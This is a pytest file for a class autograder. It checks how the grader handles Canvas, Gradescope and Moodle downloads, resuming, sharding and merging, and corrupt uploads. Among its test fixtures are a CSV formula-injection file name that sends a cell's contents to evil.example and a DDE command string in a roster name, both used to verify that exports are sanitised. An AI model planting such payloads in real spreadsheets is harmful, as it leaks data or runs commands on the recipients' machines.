"""grade-class on what an LMS really hands over: a Canvas download with a roster,
Gradescope's and Moodle's layouts, hostile names; resuming after Ctrl-C, shards and
merge, the nbgrader gradebook read back through nbgrader's own API; a corrupt zip that
stops nothing."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import tarfile
import time
import zipfile
from pathlib import Path

import pytest
from rich.console import Console

from grader.__main__ import main as cli
from grader.checks.ch05_block.block import zero_branch_identity
from grader.run.processes import Limits
from grader.run.schedule import possible_points
from grader.run.stopping import PAUSE_VARIABLE, PAUSED_VARIABLE
from tests.test_ctrl_c import as_in_a_terminal
from tests.timing import limit

ROOT = Path(__file__).resolve().parent.parent
SOLUTIONS = ROOT / "solutions" / "hero_transformer"
STUB = ROOT / "hero_transformer"
# Chapters 01 and 05, public checks: enough to tell right from wrong, quick to grade.
QUICK = ["--chapters", "01,05", "--public-only", "--seed", "1", "--allow-weak-sandbox"]
NO_RESIDUAL = ("hidden = hidden + self.residual_dropout(fed)", "hidden = self.residual_dropout(fed)")
FORMULA = '=HYPERLINK("evil.example"&B2,"open me")'


def _zip_package(path: Path, source: Path = SOLUTIONS, replace: tuple[str, str] | None = None) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for file in sorted(source.glob("*.py")):
            text = file.read_text()
            if replace and replace[0] in text:
                text = text.replace(*replace)
            archive.writestr(f"hero_transformer/{file.name}", text)


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def _rows(path: Path) -> dict[str, dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


LONG_NAME = "x" * 200 + "_108_1008_"
LONG_NAME += "y" * (255 - len(LONG_NAME) - 4) + ".zip"
NON_UTF8 = os.fsdecode(b"caf\xe9_109_1009_submission.zip")


@pytest.fixture(scope="module")
def canvas(tmp_path_factory):
    """A Canvas "Download Submissions" folder, its roster, and one grading run of it."""
    base = tmp_path_factory.mktemp("canvas")
    download = base / "submissions"
    download.mkdir()
    _zip_package(download / "alicesmith_101_1001_submission.zip")
    _zip_package(download / "bobjones_102_1002_submission.zip", STUB)
    _zip_package(download / "carolwu_LATE_103_1003_submission.zip", replace=NO_RESIDUAL)
    (download / "danlee_104_1004_submission.zip").write_bytes(b"PK\x03\x04 not really a zip")
    with tarfile.open(download / "evekim_105_1005_hw.tar.gz", "w:gz") as archive:
        archive.add(SOLUTIONS, "hero_transformer", filter=lambda i: None if "__pycache__" in i.name else i)
    (download / "frankli_106_1006_tokenizer.py").write_text((SOLUTIONS / "tokenizer.py").read_text())
    _zip_package(download / "gracehu_107_1007_submission.zip", STUB)  # the first attempt
    _zip_package(download / "gracehu_107_1010_submission-1.zip")  # the second, which counts
    _zip_package(download / "zedzero_199_1099_submission.zip")  # on no roster row
    (download / "henryo_112_1012_notes.txt").write_text("my notes")
    _zip_package(download / LONG_NAME)
    _zip_package(download / NON_UTF8)
    _zip_package(download / f"{FORMULA}_110_1011_s.zip")
    assert len(os.fsencode(LONG_NAME)) == 255
    roster = base / "roster.csv"
    roster.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section,hero_transformer (555)\n"
        "    Points Possible,,,,,100\n"
        '"Smith, Alice",101,S1,asmith,A,\n"Jones, Bob",102,S2,bjones,A,\n"Wu, Carol",103,S3,cwu,B,\n'
        '"Lee, Dan",104,S4,dlee,B,\n"Kim, Eve",105,S5,ekim,B,\n"Li, Frank",106,S6,fli,A,\n"Hu, Grace",107,S7,ghu,A,\n'
        '"Long, Name",108,S8,lname,A,\n"Cafe, Ann",109,S9,acafe,A,\n"=cmd|\' /C calc\'!A0",110,S10,evil,A,\n'
        '"Absent, Al",111,S11,aabsent,A,\n"Olsen, Henry",112,S12,holsen,A,\n')
    out = base / "out"
    assert cli(["grade-class", str(download), "--out", str(out), "--roster", str(roster), "--format", "canvas",
                *QUICK]) == 0
    return download, roster, out


# What the quick runs can score: chapters 01 and 05, public checks only.
FULL = f"{possible_points(['01', '05'], public_only=True):g}"
CHAPTER_01 = f"{possible_points(['01'], public_only=True):g}"


def test_canvas_csv_has_the_header_rows_and_values_canvas_imports(canvas):
    _, _, out = canvas
    table = _read_csv(out / "canvas.csv")
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "hero_transformer (555)"]
    assert table[1][0].strip() == "Points Possible" and table[1][5] == FULL
    by_id = {row[1]: row for row in table[2:]}
    assert list(by_id) == [str(i) for i in range(101, 113)]  # the roster's order, every student once
    score = {key: row[5] for key, row in by_id.items()}
    assert score["101"] == FULL and by_id["101"][:5] == ["Smith, Alice", "101", "S1", "asmith", "A"]
    assert score["102"] == "0"  # the stubs
    assert 0 < float(score["103"]) < float(FULL)  # the block without its second residual
    assert score["104"] == "0"  # the corrupt zip
    assert score["105"] == FULL  # the tarball
    assert score["106"] == CHAPTER_01  # a loose tokenizer.py: chapter 01 right, the rest as released
    assert score["107"] == FULL  # the latest of two attempts
    assert score["108"] == score["109"] == score["110"] == FULL  # hostile names, graded like anyone
    assert score["111"] == ""  # nothing uploaded: the cell is left alone
    assert score["112"] == "0"  # notes.txt alone: an upload that holds no package, as a corrupt zip
    assert by_id["110"][0] == "'=cmd|' /C calc'!A0"
    assert "199" not in by_id  # not on the roster: no row, but accounted for (below)
    plain = _rows(out / "gradebook.csv")
    assert plain["Wu, Carol"]["late"] == "late" and plain["Hu, Grace"]["attempts"] == "2"
    assert plain["Lee, Dan"]["status"] == "unreadable archive" and "danlee" in plain["Lee, Dan"]["note"]
    assert str(canvas[0]) not in plain["Lee, Dan"]["note"]  # the TA's own paths stay out of the note


def test_no_cell_of_any_csv_starts_a_formula(canvas):
    _, _, out = canvas
    written = sorted(out.glob("*.csv"))
    assert {p.name for p in written} == {"canvas.csv", "gradebook.csv", "entries.csv"}
    for path in written:
        for row in _read_csv(path):
            for value in row:
                assert value[:1] not in ("=", "+", "-", "@"), (path.name, value)
    assert any(FORMULA in value[1:] for row in _read_csv(out / "entries.csv") for value in row)


def test_every_entry_of_the_download_is_accounted_for(canvas):
    download, _, out = canvas
    with (out / "entries.csv").open(encoding="utf-8", newline="") as handle:
        entries = {row["entry"]: row for row in csv.DictReader(handle)}
    listed = {os.fsencode(name).decode("utf-8", "backslashreplace") for name in os.listdir(download)}
    assert set(entries) == {"'" + n if n.startswith("=") else n for n in listed}
    status = {name: row["status"] for name, row in entries.items()}
    assert status["zedzero_199_1099_submission.zip"] == "unknown student"
    assert status["gracehu_107_1007_submission.zip"] == "superseded"
    assert status["gracehu_107_1010_submission-1.zip"] == "graded"
    assert status["danlee_104_1004_submission.zip"] == "unreadable archive"
    assert status["henryo_112_1012_notes.txt"] == "not graded"  # his only upload, so his row says why
    assert status["caf\\xe9_109_1009_submission.zip"] == status[LONG_NAME] == "graded"
    assert sum(s == "graded" for s in status.values()) == 9
    summary = (out / "summary.md").read_text()
    for why in ("unknown student", "superseded", "unreadable archive", "not graded"):
        assert why in summary


def test_each_student_gets_feedback_and_staff_get_a_summary(canvas):
    _, _, out = canvas
    names = {p.name for p in (out / "feedback").iterdir()}
    assert {"asmith.md", "asmith.html", "cwu.md", "fli.md", "evil.md", "lname.md", "acafe.md"} <= names
    assert not any(n.startswith("aabsent") for n in names)
    assert "notes.txt is neither a folder" in (out / "feedback" / "holsen.md").read_text()
    carol = (out / "feedback" / "cwu.md").read_text()
    assert f"Total: {_rows(out / 'gradebook.csv')['Wu, Carol']['total']} / {FULL} points" in carol
    assert "block.zero\\_branch\\_identity" in carol and "0/2 | failed" in carol and "(late)" in carol
    record = json.loads(next((out / "results").glob("carolwu*[0-9a-f].json")).read_text())
    staff = json.loads(next((out / "results").glob("carolwu*.staff.json")).read_text())
    shown = [c["diagnosis"] for c in record["checks"] if c["status"] != "passed"]
    assert shown and all(d.split(":")[0] in carol.replace("\\", "") for d in shown)
    assert {c["name"] for c in staff["checks"]} == {c["name"] for c in record["checks"]}
    html = (out / "feedback" / "cwu.html").read_text()
    assert html.startswith("<!doctype html>") and "<table>" in html and "zero_branch_identity" in html
    evil = (out / "feedback" / "evil.html").read_text()
    assert "<a " not in evil and "HYPERLINK" in evil
    summary = (out / "summary.md").read_text()
    assert "![score histogram](histogram.png)" in summary
    assert (out / "histogram.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert zero_branch_identity.name.replace("_", "\\_") in summary  # among the most-failed checks
    assert "## Look-alike uploads" in summary


def test_a_rerun_regrades_nothing_unchanged_and_the_zip_of_the_download_reads_the_same(canvas, tmp_path):
    download, roster, graded = canvas
    out = tmp_path / "out"
    shutil.copytree(graded, out)
    before = (out / "canvas.csv").read_bytes()
    whole = tmp_path / "submissions.zip"  # Canvas hands the download over as one zip
    with zipfile.ZipFile(whole, "w") as archive:
        for path in sorted(download.iterdir()):
            if path.name != NON_UTF8:  # a zip stores names as text: leave out the one that is not
                archive.write(path, path.name)
    console = Console(record=True, file=io.StringIO(), width=200)
    from grader.grade_class.gradebook import grade_class
    from grader.grade_class.uploads import read_roster  # noqa: F401 - the roster is passed by path, as on the command line

    grade_class(whole, out, roster=roster, fmt="canvas", chapters=["01", "05"], public_only=True, seed=1,
                console=console)
    said = console.export_text()
    assert "10 upload(s) unchanged since they were graded: kept, not regraded" in said
    assert "grading" not in said.split("not regraded", 1)[1]
    after = _read_csv(out / "canvas.csv")
    expected = [row for row in csv.reader(io.StringIO(before.decode())) if row[1] != "109"]
    assert [row for row in after if row[1] != "109"] == expected


def test_gradescope_and_moodle_layouts_name_their_students(tmp_path):
    from grader.grade_class.uploads import read_input

    export = tmp_path / "assignment_77_export"
    for number in ("1001", "1002", "1003"):
        folder = export / f"submission_{number}"
        (folder / "hero_transformer").mkdir(parents=True)
        (folder / "hero_transformer" / "__init__.py").write_text("")
    (export / "stray.txt").write_text("?")
    (export / "submission_metadata.yml").write_text(
        "submission_1001:\n  :submitters:\n  - :name: Ada Lovelace\n    :sid: '11'\n    :email: ada@uni.edu\n"
        "  :created_at: 2024-03-01 10:00:00.000000000 -05:00\n"
        "submission_1002:\n  :submitters:\n  - :name: Ada Lovelace\n    :sid: '11'\n    :email: ada@uni.edu\n"
        "  - :name: Alan Turing\n    :sid: '12'\n    :email: alan@uni.edu\n"
        "  :created_at: 2024-03-02 10:00:00.000000000 -05:00\n"
        "submission_1003:\n  :submitters:\n  - :name: Grace Hopper\n    :sid: '13'\n    :email: grace@uni.edu\n"
        "  :created_at: 2024-03-01 09:00:00.000000000 -05:00\n")
    with zipfile.ZipFile(tmp_path / "export.zip", "w") as archive:  # exported as a zip holding the folder
        for path in sorted(export.rglob("*")):
            archive.write(path, path.relative_to(tmp_path).as_posix())
    intake = read_input(tmp_path / "export.zip", tmp_path / "work")
    assert intake.lms == "gradescope"
    who = {u.entries[0].rsplit("/", 1)[-1]: sorted(s.email for s in u.students) for u in intake.uploads}
    # Ada's later submission is the group's with Alan: it counts for both.
    assert who == {"submission_1002": ["ada@uni.edu", "alan@uni.edu"], "submission_1003": ["grace@uni.edu"]}
    status = {e.name.rsplit("/", 1)[-1]: e.status for e in intake.entries}
    assert status["stray.txt"] == "not a submission" and status["submission_metadata.yml"] == "not a submission"
    assert status["submission_1001"] == "superseded"
    assert status["submission_1002"] == status["submission_1003"] == "to grade"

    moodle = tmp_path / "moodle"
    moodle.mkdir()
    _zip_package(moodle / "Ada Lovelace_501_assignsubmission_file_mine.zip")
    (moodle / "Alan Turing_502_assignsubmission_file_").mkdir()
    roster = tmp_path / "worksheet.csv"
    roster.write_text("Identifier,Full name,Email address,Status,Grade,Maximum Grade\n"
                      "Participant 501,Ada Lovelace,ada@uni.edu,Submitted,,100\n"
                      "Participant 502,Alan Turing,alan@uni.edu,Submitted,,100\n")
    from grader.grade_class.uploads import read_roster

    intake = read_input(moodle, tmp_path / "work2", read_roster(roster))
    assert intake.lms == "moodle"
    assert sorted((u.students[0].email, u.kind) for u in intake.uploads) == [("ada@uni.edu", "zip"),
                                                                             ("alan@uni.edu", "folder")]


def test_bad_input_gets_a_message_not_a_traceback(tmp_path, capsys):
    (tmp_path / "in").mkdir()
    _zip_package(tmp_path / "in" / "alice.zip")
    assert cli(["grade-class", str(tmp_path / "nowhere"), "--out", str(tmp_path / "o"), "--allow-weak-sandbox"]) == 1
    assert cli(["grade-class", str(tmp_path / "in"), "--out", str(tmp_path / "o"), "--shard", "3/2",
                "--allow-weak-sandbox"]) == 1
    assert cli(["grade-class", str(tmp_path / "in"), "--out", str(tmp_path / "o"), "--roster",
                str(tmp_path / "missing.csv"), "--allow-weak-sandbox"]) == 1
    assert cli(["grade-class", "merge", str(tmp_path / "in"), "--out", str(tmp_path / "o")]) == 1
    said = " ".join(capsys.readouterr().out.split())  # rich wraps long lines
    assert "does not exist" in said and "K must be between 1 and N" in said and "cannot be read" in said
    assert "holds no grade-class results" in said and "Traceback" not in said


# ------------------------------------------------------------ resume, shards, merge


def _plain_class(folder: Path) -> Path:
    folder.mkdir()
    _zip_package(folder / "ann.zip")
    _zip_package(folder / "ben.zip", STUB)
    _zip_package(folder / "cat.zip", replace=NO_RESIDUAL)
    _zip_package(folder / "dov.zip")
    _zip_package(folder / "eli.zip", replace=NO_RESIDUAL)
    (folder / "fay.tar").write_bytes(b"garbage")
    return folder


def test_ctrl_c_keeps_what_is_done_and_a_rerun_grades_only_the_rest(tmp_path, monkeypatch):
    uploads = _plain_class(tmp_path / "uploads")
    out = tmp_path / "out"
    command = [sys.executable, "-m", "grader", "grade-class", str(uploads), "--out", str(out), "--jobs", "1",
               "--chapters", "05", "--seed", "2", "--allow-weak-sandbox"]
    # Ctrl-C once the first upload is graded and kept: the run says when (tests/test_ctrl_c.py).
    paused = tmp_path / "paused.txt"
    env = {**os.environ, PAUSE_VARIABLE: "between uploads", PAUSED_VARIABLE: str(paused)}
    run = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
                           preexec_fn=as_in_a_terminal)
    while not paused.is_file() and run.poll() is None:
        time.sleep(0.02)
    run.send_signal(signal.SIGINT)
    stdout, stderr = run.communicate(timeout=600)
    assert run.returncode == 130, (stdout, stderr)
    assert "Traceback" not in stderr and "Run the same command again" in stdout
    kept = {p.name: p.read_bytes() for p in (out / "results").glob("*.json")}
    records = [json.loads(b) for n, b in kept.items() if not n.endswith(".staff.json")]
    assert len(records) == 1 and len(kept) == 2 and not list((out / "results").glob(".part-*"))

    import grader.grade_class.gradebook as gradebook

    graded = []
    real = gradebook.grade_upload
    monkeypatch.setattr(gradebook, "grade_upload", lambda upload, *a: graded.append(upload.slug) or real(upload, *a))
    gradebook.grade_class(uploads, out, chapters=["05"], seed=2, console=Console(file=io.StringIO()))
    everything = {json.loads(p.read_text())["upload"]["slug"] for p in (out / "results").glob("*.json")
                  if not p.name.endswith(".staff.json")}
    assert len(everything) == 6
    assert sorted(graded) == sorted(everything - {r["upload"]["slug"] for r in records})
    for name, data in kept.items():  # what was done is kept as it was, not regraded
        assert (out / "results" / name).read_bytes() == data
    rows = _rows(out / "gradebook.csv")
    assert set(rows) == {"ann", "ben", "cat", "dov", "eli", "fay"}
    assert rows["ann"]["total"] == rows["ann"]["max"] == rows["dov"]["total"] != "0"
    assert rows["ben"]["total"] == "0" and rows["fay"]["status"] == "unreadable archive"
    assert float(rows["cat"]["total"]) < float(rows["cat"]["max"])

    graded.clear()  # nothing changed: nothing is graded again
    gradebook.grade_class(uploads, out, chapters=["05"], seed=2, console=Console(file=io.StringIO()))
    assert graded == []
    _zip_package(uploads / "ben.zip")  # ben uploads again: only ben is regraded
    gradebook.grade_class(uploads, out, chapters=["05"], seed=2, console=Console(file=io.StringIO()))
    assert len(graded) == 1 and graded[0].startswith("ben.zip")
    assert _rows(out / "gradebook.csv")["ben"]["total"] == rows["ann"]["total"]

    # The gradebook comes back from the per-upload JSON alone.
    before = (out / "gradebook.csv").read_bytes()
    (out / "class.json").unlink()
    (out / "gradebook.csv").unlink()
    assert cli(["grade-class", "merge", str(out), "--out", str(tmp_path / "rebuilt")]) == 0
    assert (tmp_path / "rebuilt" / "gradebook.csv").read_bytes() == before


def test_two_shards_merged_equal_one_run_and_nbgrader_reads_the_gradebook(tmp_path, capsys):
    from nbgrader.api import Gradebook

    uploads = _plain_class(tmp_path / "uploads")
    flags = ["--chapters", "05", "--public-only", "--seed", "4", "--allow-weak-sandbox", "--format", "nbgrader",
             "--assignment", "ht"]
    assert cli(["grade-class", str(uploads), "--out", str(tmp_path / "one"), *flags]) == 0
    # Not a terminal (pytest captures it): one whole line per upload, counted, named.
    lines = [line for line in capsys.readouterr().out.splitlines() if line.startswith("graded ")]
    count = len(lines)
    assert count >= 2 and [line.split(":")[0] for line in lines] == [f"graded {i}/{count}"
                                                                    for i in range(1, count + 1)], lines
    assert all(line.endswith(" s/upload)") for line in lines), lines
    for k in (1, 2):
        assert cli(["grade-class", str(uploads), "--out", str(tmp_path / f"s{k}"), "--shard", f"{k}/2", *flags]) == 0
    shard_records = [{p.name for p in (tmp_path / f"s{k}" / "results").glob("*.json")} for k in (1, 2)]
    assert shard_records[0] and shard_records[1] and not shard_records[0] & shard_records[1]
    assert cli(["grade-class", "merge", str(tmp_path / "s1"), str(tmp_path / "s2"),
                "--out", str(tmp_path / "merged")]) == 0
    for name in ("gradebook.csv", "entries.csv", "summary.md"):
        assert (tmp_path / "merged" / name).read_text() == (tmp_path / "one" / name).read_text(), name
    assert sorted(p.name for p in (tmp_path / "merged" / "feedback").iterdir()) == \
        sorted(p.name for p in (tmp_path / "one" / "feedback").iterdir())

    expected = {name: row for name, row in _rows(tmp_path / "one" / "gradebook.csv").items()}
    for folder in ("one", "merged"):
        with Gradebook(f"sqlite:///{tmp_path / folder / 'gradebook.db'}") as gradebook:
            assignment = gradebook.find_assignment("ht")
            assert [n.name for n in assignment.notebooks] == ["ch05"]
            assert assignment.max_score == float(expected["ann"]["max"])
            assert sorted(s.id for s in gradebook.students) == sorted(expected)
            for student, row in expected.items():
                submission = gradebook.find_submission("ht", student)
                assert submission.score == float(row["total"]), (folder, student)
    # The same results as Moodle wants them, rebuilt without grading anything again.
    assert cli(["grade-class", "merge", str(tmp_path / "one"), "--out", str(tmp_path / "one"),
                "--format", "moodle"]) == 0
    table = _read_csv(tmp_path / "one" / "moodle.csv")
    assert table[0][:6] == ["Identifier", "Full name", "Email address", "Username", "Grade", "Maximum Grade"]
    assert {row[1]: row[4] for row in table[1:]}["ann"] == expected["ann"]["total"]


# ------------------------------------------------------------------ look-alikes

OWN_LAYER_NORM = '''
        total = 0.0
        for i in range(x.shape[-1]):
            total = total + x[..., i:i + 1]
        middle = total / x.shape[-1]
        spread = ((x - middle) ** 2).sum(dim=-1, keepdim=True) / x.shape[-1]
        scaled = (x - middle) * torch.rsqrt(spread + self.eps)
        return self.weight * scaled + self.bias
'''


def _with_layer_norm(body: str) -> dict[str, str]:
    from grader.regions import package_sources

    sources = dict(package_sources(SOLUTIONS))
    start = sources["model.py"].index("        mean = x.mean(dim=-1, keepdim=True)")
    end = sources["model.py"].index("        ### END SOLUTION", start)
    sources["model.py"] = sources["model.py"][:start] + body.lstrip("\n") + sources["model.py"][end:]
    return sources


def test_look_alikes_see_through_renaming_and_ignore_the_reference():
    from grader.regions import package_sources
    from grader.grade_class.similarity import fingerprints, look_alikes

    renamed = OWN_LAYER_NORM.replace("total", "acc").replace("middle", "mu").replace("spread", "var") \
        .replace("scaled", "z").replace("        return", "        # normalise, then scale\n        return")
    different = OWN_LAYER_NORM.replace("torch.rsqrt(spread + self.eps)", "1 / (spread + self.eps) ** 0.5") \
        .replace("for i in range(x.shape[-1]):\n            total = total + x[..., i:i + 1]\n",
                 "total = x.sum(dim=-1, keepdim=True)\n")
    prints = {"ann": fingerprints(_with_layer_norm(OWN_LAYER_NORM)), "ben": fingerprints(_with_layer_norm(renamed)),
              "cat": fingerprints(_with_layer_norm(different)),
              "ref1": fingerprints(package_sources(SOLUTIONS)), "ref2": fingerprints(package_sources(SOLUTIONS)),
              "stub1": fingerprints(package_sources(STUB)), "stub2": fingerprints(package_sources(STUB))}
    pairs = look_alikes(prints)
    assert pairs and pairs[0][:2] == ("ann", "ben") and pairs[0][2] == 1.0 and pairs[0][3] == ["layer_norm"]
    assert not any({"ref1", "ref2"} == {a, b} or {"stub1", "stub2"} == {a, b} for a, b, _, _ in pairs)
    assert all(score < 1.0 for a, b, score, _ in pairs if "cat" in (a, b))


def test_a_zip_inside_a_students_folder_is_their_upload(tmp_path):
    """Moodle's "download in folders" puts each student's file in a folder of their own:
    the zip there is graded, and two zips that both hold a package are refused by name."""
    download = tmp_path / "download"
    (download / "Ada Lovelace_501_assignsubmission_file_").mkdir(parents=True)
    _zip_package(download / "Ada Lovelace_501_assignsubmission_file_" / "hero_transformer.zip")
    twice = download / "Alan Turing_502_assignsubmission_file_"
    twice.mkdir()
    _zip_package(twice / "first.zip")
    _zip_package(twice / "second.zip")
    roster = tmp_path / "worksheet.csv"
    roster.write_text("Identifier,Full name,Email address,Status,Grade,Maximum Grade\n"
                      "Participant 501,Ada Lovelace,ada@uni.edu,Submitted,,36\n"
                      "Participant 502,Alan Turing,alan@uni.edu,Submitted,,36\n")
    out = tmp_path / "out"
    # About the LMS's layout, not the sandbox: graded with bubblewrap where it is installed.
    assert cli(["grade-class", str(download), "--out", str(out), "--roster", str(roster), "--format", "moodle",
                "--chapters", "05", "--allow-weak-sandbox"]) == 0
    rows = {row["Full name"]: row for row in csv.DictReader(io.StringIO((out / "moodle.csv").read_text()))}
    assert float(rows["Ada Lovelace"]["Grade"]) == possible_points(["05"])
    assert rows["Alan Turing"]["Grade"] in ("", "0")
    assert "first.zip, second.zip" in rows["Alan Turing"]["Feedback comments"]


def test_a_student_who_uploaded_only_a_notebook_keeps_a_row(tmp_path):
    """Canvas names the student on every file: one who uploaded a notebook alone gets a
    row saying so (not silence), while a stray file beside a usable upload stays stray."""
    download = tmp_path / "download"
    download.mkdir()
    (download / "aaa_11111_80001_ch05_block.ipynb").write_text("{}")
    _zip_package(download / "bbb_22222_80002_hero_transformer.zip")
    (download / "bbb_22222_80003_notes.txt").write_text("my notes")
    out = tmp_path / "out"
    assert cli(["grade-class", str(download), "--out", str(out), "--format", "canvas", "--chapters", "05",
                "--allow-weak-sandbox"]) == 0
    rows = {row["student"]: row for row in csv.DictReader(io.StringIO((out / "gradebook.csv").read_text()))}
    assert rows["aaa"]["total"] == "0" and "is a notebook" in rows["aaa"]["note"]
    assert float(rows["bbb"]["total"]) == possible_points(["05"])
    entries = {row["entry"]: row for row in csv.DictReader(io.StringIO((out / "entries.csv").read_text()))}
    assert entries["bbb_22222_80003_notes.txt"]["status"] == "not a submission"


def test_a_corrupt_zip_does_not_stop_grade_class(tmp_path, monkeypatch):
    import grader.grade_class.gradebook as gradebook

    monkeypatch.setattr(gradebook, "Limits", lambda **given: Limits(**{"check_seconds": limit(3.0), **given}))
    uploads = tmp_path / "uploads"
    uploads.mkdir()
    broken = uploads / "alice.zip"
    with zipfile.ZipFile(broken, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("hero_transformer/__init__.py", b"MARKER_TO_CORRUPT = 1\n")
    data = broken.read_bytes()
    broken.write_bytes(data.replace(b"MARKER_TO_CORRUPT = 1", b"MARKER_TO_CORRUPT = 2"))
    (uploads / "bob").mkdir()  # an upload with no package: a row with a note
    out = tmp_path / "gradebook.csv"
    gradebook.grade_class(uploads, tmp_path / "class", csv_path=out, chapters=["02"], console=_quiet())
    rows = list(csv.DictReader(out.open()))
    assert [r["student"] for r in rows] == ["alice", "bob"]


def _quiet():
    from rich.console import Console

    return Console(file=io.StringIO())
